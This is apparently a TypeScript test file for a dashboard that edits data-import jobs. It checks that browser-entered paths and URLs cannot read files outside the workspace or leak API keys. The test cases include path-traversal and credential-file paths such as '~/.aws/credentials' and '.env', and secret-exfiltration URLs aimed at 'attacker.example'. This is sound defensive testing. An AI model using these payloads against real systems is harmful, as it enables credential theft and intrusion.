import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { makeWorkspace, type Workspace } from '../../support/workspace.ts';
import { type Answer, formOf, type HttpClient, multipart } from './http-client.ts';
import { serveDashboard } from './running-dashboard.ts';

const SECRET = 'sk-live-4711-secret';
const FEED = 'feed-0815-secret';
const FILE = 'jobs/nightly.yaml';
const EDIT = '/jobs/nightly/edit';
const HEAD = 'import: products\nstore: main\nmapping: ours\n';
const MAPPING = `import: products
columns: { title: Name, price: Price }
product: { title: title, url: [title, slug] }
variants: { pricing: { price: [price, number] } }
`;

/** A server that is not ours: what it was asked, and with which headers. */
async function foreignServer() {
  const requests: IncomingMessage[] = [];
  const server = createServer((request, response) => {
    requests.push(request);
    response.setHeader('content-type', 'text/csv').end('Name,Price\nMug,1.00\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return { requests, port, close: () => void server.close() };
}

let outside: string;
let workspace: Workspace;
let client: HttpClient;
let own: Awaited<ReturnType<typeof foreignServer>>;
let foreign: Awaited<ReturnType<typeof foreignServer>>;

const read = async (name = FILE) => await readFile(join(workspace.dir, name), 'utf8');
const sourceOf = async () => parse(await read()).source;
const fieldOf = ({ document }: Answer, name: string) =>
  document.querySelector(`select[name="${name}"] option[selected]`)?.getAttribute('value') ?? '';
/** Sends the form of the job with another place of its source. */
const save = async (fields: Readonly<Record<string, string>>) => {
  const page = await client.get(EDIT);
  const lists = { place: fieldOf(page, 'place'), schedule: fieldOf(page, 'schedule') };
  return await client.submit(page, EDIT, { ...lists, ...fields });
};
const problemOf = ({ document }: Answer) =>
  document.querySelector('#about-location .field-error')?.textContent ?? '';

beforeAll(async () => {
  outside = await mkdtemp(join(tmpdir(), 'storeferry-outside-'));
  await mkdir(join(outside, '.aws'));
  for (const name of ['prices.csv', '.aws/credentials'])
    await writeFile(join(outside, name), 'Name,Price\nforbidden-content,1.00\n');
  own = await foreignServer();
  foreign = await foreignServer();
  const files = {
    'stores.yaml': 'main: { baseUrl: http://127.0.0.1:9, apiKey: "$' + '{STORE_API_KEY}" }\n',
    'mappings/ours.yaml': MAPPING,
    'list.csv': 'Name,Price\nMug,1.00\n',
    'inbox/list.csv': 'Name,Price\nMug,1.00\n',
    [FILE]: `${HEAD}source: { path: list.csv }\n`,
  };
  workspace = await makeWorkspace(files, {
    ...{ STORE_API_KEY: SECRET, FEED_TOKEN: FEED, OUTSIDE: outside, INBOX: 'inbox' },
    ...{ STOREFERRY_ALLOW: outside, OWN: `http://127.0.0.1:${own.port}` },
  });
  await symlink(outside, join(workspace.dir, 'linked'));
  client = await (await serveDashboard(workspace)).signedIn('full');
});
beforeEach(async () => {
  await workspace.write(FILE, `${HEAD}source: { path: list.csv }\n`);
});
afterAll(async () => {
  await workspace?.[Symbol.asyncDispose]();
  own?.close();
  foreign?.close();
  await rm(outside, { recursive: true, force: true });
});

describe('a path that a browser writes', () => {
  const withHome = (path: string) => path.replace('OUT', () => outside);

  it.each([
    'OUT/prices.csv',
    'OUT/pric*',
    'OUT/.aws/credentials',
    '~/.aws/credentials',
    'linked/prices.csv',
    'linked/*.csv',
    '{inbox,linked}/*.csv',
    '.env',
    'inbox/../.env',
    '{inbox,..}/prices.csv',
    '{inbox,OUT}/prices.csv',
    'file://OUT/prices.csv',
    `\${OUTSIDE}/prices.csv`,
    `\${NOPE:OUT/prices.csv}`,
    `\${NOPE:\${OUTSIDE}/prices.csv}`,
  ])('names no file outside the workspace: %s', async (path) => {
    await save({ location: withHome(path) });
    const source = await sourceOf();
    // A placeholder became text: a name that no file has.
    if (path.startsWith('${') || path.startsWith('file:'))
      expect(source.path).toMatch(/^(\$\$\{|file:|list)/);
    else expect(source).toEqual({ path: 'list.csv' });
    expect((await client.get('/jobs/nightly/columns')).body).not.toContain('forbidden-content');
  });

  it('is judged with the values of the placeholders that it keeps', async () => {
    await workspace.write(FILE, `${HEAD}source: { path: "\${INBOX}/list.csv" }\n`);
    await save({ location: `\${INBOX}/*.csv` });
    expect(await sourceOf()).toEqual({ path: `\${INBOX}/*.csv` });
    expect(problemOf(await save({ location: `\${INBOX}/../../x.csv` }))).toContain('inside the workspace');
    await workspace.write(FILE, `${HEAD}source: { path: "\${OUTSIDE}/prices.csv" }\n`);
    expect(problemOf(await save({ location: `\${OUTSIDE}/.aws/credentials` }))).toContain('leads outside');
    expect(await sourceOf()).toEqual({ path: `\${OUTSIDE}/prices.csv` });
  });

  it('shows the content of no file outside the workspace that the owner of the job has named', async () => {
    for (const path of [join(outside, 'prices.csv'), 'linked/prices.csv']) {
      await workspace.write(FILE, `${HEAD}source: { path: "${path}" }\n`);
      const page = await client.get('/jobs/nightly/columns');
      expect(page.status).toBe(422);
      expect(page.words).toContain('leads outside the workspace');
      expect(page.body).not.toContain('forbidden-content');
      const planned = await workspace.storeferry('plan', 'nightly', '--json');
      expect(planned.json()).toMatchObject({ status: 'planned', records: 1 });
    }
  });

  it('has braces that stand for a few paths only, and is refused before it is saved', async () => {
    const page = await save({ location: `${'{a,b}'.repeat(26)}.csv` });
    expect(problemOf(page)).toContain('braces stand for at most 1000 paths');
    expect(await sourceOf()).toEqual({ path: 'list.csv' });
    await workspace.write(FILE, `${HEAD}source: { path: "${'{a,b}'.repeat(26)}" }\n`);
    expect((await client.get('/jobs/nightly/columns')).status).toBe(422);
    const run = await workspace.storeferry('plan', 'nightly');
    expect([run.code, run.stderr]).toEqual([2, expect.stringContaining('at most 1000 paths')]);
  });
});

describe('an address that a browser writes', () => {
  const urls = () => [...own.requests, ...foreign.requests].map(({ url = '', headers }) => [url, headers]);

  it('names no secret that its field does not have', async () => {
    const location = `https://127.0.0.1:${foreign.port}/?x=\${STORE_API_KEY}`;
    await save({ place: 'url', location });
    expect(await sourceOf()).toEqual({ url: location.replace('${', () => '$${') });
    await client.get('/jobs/nightly/columns');
    for (const address of [
      `http://\${STORE_API_KEY}.attacker.example/`,
      `http://x.example/\${STORE_API_KEY}`,
    ]) {
      const page = await client.submit(await client.get('/new'), '/new/address', { address });
      expect(page.body).not.toContain(SECRET);
    }
    expect(JSON.stringify(urls())).not.toContain(SECRET);
  });

  it('keeps placeholders and settings while it leads to the same server', async () => {
    const map = `{ address: "\${OWN}/a?t=\${FEED_TOKEN}", auth: { bearer: "\${FEED_TOKEN}" }, allowPrivateAddresses: true }`;
    await workspace.write(FILE, `${HEAD}source: { url: ${map} }\n`);
    await save({ location: `http://127.0.0.1:${own.port}/b?t=\${FEED_TOKEN}` });
    expect((await sourceOf()).url).toEqual({
      address: `http://127.0.0.1:${own.port}/b?t=\${FEED_TOKEN}`,
      auth: { bearer: `\${FEED_TOKEN}` },
      allowPrivateAddresses: true,
    });
    await client.get('/jobs/nightly/columns');
    expect(own.requests.at(-1)?.headers.authorization).toBe(`Bearer ${FEED}`);
  });

  it('gives up what was meant for another server, and says so', async () => {
    const map = `{ address: "\${OWN}/a?t=\${FEED_TOKEN}", auth: { bearer: "\${FEED_TOKEN}" }, headers: { X-Key: "\${STORE_API_KEY}" }, allowPrivateAddresses: true }`;
    for (const location of [
      `http://127.0.0.1:${foreign.port}/?t=\${FEED_TOKEN}`,
      `http://localhost:${own.port}/?t=\${FEED_TOKEN}`,
      `https://127.0.0.1:${own.port}/?t=\${FEED_TOKEN}`,
      `\${OWN}@127.0.0.1:${foreign.port}/?t=\${FEED_TOKEN}`,
      `\${OWN}.attacker.example/?t=\${FEED_TOKEN}`,
    ]) {
      await workspace.write(FILE, `${HEAD}source:\n  url: ${map} # ours\n`);
      const saved = await save({ location });
      const { url } = await sourceOf();
      if (saved.status === 422) expect(url.auth).toBeDefined();
      else {
        expect(url).toEqual({ address: location.replaceAll('${', () => '$${') });
        expect(saved.words).toContain('removed: auth, headers and allowPrivateAddresses');
        expect(await read()).toContain('# ours');
      }
      await client.get('/jobs/nightly/columns');
    }
    expect(foreign.requests).toEqual([]);
  });
});

describe('other fields that a browser writes', () => {
  it('have no placeholder, in a job or in a mapping', async () => {
    await save({ sheet: `\${STORE_API_KEY}`, timezone: `\${STORE_API_KEY}`, records: `\${X:y}` });
    expect(await read()).not.toMatch(/(?<!\$)\$\{/);
    const { fields } = formOf(await client.get('/new'), '/new/upload');
    const csv = `\${STORE_API_KEY};Verkaufspreis\nTasse;12,90\n`;
    const { body, type } = multipart(fields, { name: 'x.csv', content: csv });
    const page = await client.follow(await client.post('/new/upload', body, { 'content-type': type }));
    const action = page.document.querySelector('form.draft')?.getAttribute('action') ?? '';
    const lists = Object.fromEntries(
      [...page.document.querySelectorAll('select[name]')].map((list) => {
        const chosen = list.querySelector('option[selected]') ?? list.querySelector('option:last-child');
        return [list.getAttribute('name') ?? '', chosen?.getAttribute('value') ?? ''];
      }),
    );
    const more = { imports: 'products', 'field.0': 'title', 'answer.column.title': `=\${STORE_API_KEY}` };
    const asked = await client.submit(page, action, { ...lists, ...more });
    const made = await client.submit(asked, action, {
      ...{ ...lists, ...more, name: 'made', do: 'create' },
      ...{ 'answer.currency': 'EUR', 'param.x': `\${STORE_API_KEY}` },
    });
    expect(made.body).not.toContain(SECRET);
    for (const name of ['jobs/made.yaml', 'mappings/made.yaml']) {
      const text = await read(name);
      expect(text.replaceAll(/^ *#.*$/gm, '')).not.toMatch(/(?<!\$)\$\{/);
    }
    expect(await read('mappings/made.yaml')).toContain('"$${STORE_API_KEY}"');
  });
});

describe('the files of a visitor', () => {
  const upload = async (by: HttpClient) => {
    const { fields } = formOf(await by.get('/new'), '/new/upload');
    const { body, type } = multipart(fields, { name: 'people.csv', content: 'Name\nHana\n' });
    return await by.follow(await by.post('/new/upload', body, { 'content-type': type }));
  };
  const kept = async () => {
    const folder = join(workspace.dir, '.storeferry/uploads');
    const names = await readdir(folder, { recursive: true }).catch(() => []);
    return names.filter((name) => name.endsWith('.csv')).length;
  };

  it('are removed with the dashboard, by the next one if it was killed, and never those of another', async () => {
    await upload(client);
    expect(await kept()).toBe(1);
    const killed = await serveDashboard(workspace);
    await upload(await killed.signedIn('full'));
    expect(await kept()).toBe(2);
    killed.command.process.kill('SIGKILL');
    await killed.command.ended;
    expect(await kept()).toBe(2);
    const next = await serveDashboard(workspace);
    expect(await kept()).toBe(1);
    expect((await upload(await next.signedIn('full'))).words).toContain('From people.csv');
    expect(await kept()).toBe(2);
    next.command.process.kill('SIGTERM');
    await next.command.ended;
    expect(await kept()).toBe(1);
  });
});
